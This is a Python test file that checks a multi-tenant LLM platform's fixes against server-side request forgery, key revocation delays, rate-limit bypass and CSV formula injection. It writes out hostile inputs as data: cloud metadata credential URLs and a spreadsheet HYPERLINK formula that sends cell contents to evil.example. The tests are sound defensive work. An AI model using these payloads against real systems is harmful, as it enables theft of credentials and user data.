"""The tenant-facing controls of issue 23 on the running graph (real Ray Serve, vLLM, store):
each test performs the attack as a tenant with an ordinary key would."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import time

import pytest

from harness.launcher import BIN
from tests.conftest import Graph

pytestmark = pytest.mark.slow


def test_a_metadata_url_cannot_be_an_agents_upstream(graph: Graph) -> None:
    """Verified on a fresh `make run` before the fix: accepted."""
    key = graph.new_user("ssrf-tenant")
    with graph.client(key) as c:
        for url in (
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:5432/v1",
            "http://[::ffff:169.254.169.254]/v1",
        ):
            backend = {"type": "openai", "base_url": url, "model": "m"}
            resp = c.post(
                "/native-llm/agent/create", json={"config": {"name": "x", "backend": backend}}
            )
            assert resp.status_code == 422, resp.text
            assert "does not call URLs that agents name" in resp.json()["error"]["message"]
        assert c.get("/native-llm/dashboard/agents").json()["data"]["agents"] == []


def test_the_policy_dry_run_is_rate_limited_with_the_chat_routes(graph: Graph) -> None:
    key = graph.new_user("dry-runner")
    with graph.client(key) as c:
        first = c.post("/native-llm/governance/evaluate", json={"text": "How do I bake bread?"})
        assert first.status_code == 200, first.text
        second = c.post("/native-llm/governance/evaluate", json={"text": "And rye bread?"})
    left = [int(r.headers["x-ratelimit-remaining-requests"]) for r in (first, second)]
    assert left[1] < left[0]  # each dry run takes a request from the key's bucket


def test_a_revoked_key_stops_working_within_a_second(graph: Graph) -> None:
    key = graph.new_user("revoked-soon")
    with graph.client(key) as c:
        assert c.get("/native-llm/dashboard/agents").status_code == 200  # now cached
        subprocess.run(
            [str(BIN / "promethios"), "users", "revoke-key", key],
            check=True,
            capture_output=True,
            env={**os.environ, "DATABASE_URL": graph.database_url},
        )
        revoked_at = time.monotonic()
        while True:
            status = c.get("/native-llm/dashboard/agents").status_code
            if status == 401:
                break
            assert time.monotonic() - revoked_at < 1.5, "the revoked key still works"
            time.sleep(0.1)


def test_a_csv_report_cannot_carry_a_formula(graph: Graph) -> None:
    key = graph.new_user("csv-tenant")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open the invoice")'
    with graph.client(key) as c:
        agent = c.post(
            "/native-llm/agent/create", json={"config": {"name": "csv", "max_tokens": 8}}
        )
        agent_id = agent.json()["data"]["agent_id"]
        assert (
            c.post(f"/native-llm/agent/{agent_id}/chat", json={"message": attack}).status_code
            == 200
        )
        report = c.get(f"/native-llm/agent/{agent_id}/report", params={"format": "csv"})
    assert report.status_code == 200
    rows = list(csv.DictReader(io.StringIO(report.text)))
    cells = [v for row in rows for v in row.values() if v]
    assert any(attack in v for v in cells)  # the message is in the report...
    assert not [v for v in cells if v.startswith(("=", "+", "@"))]  # ...never as a formula
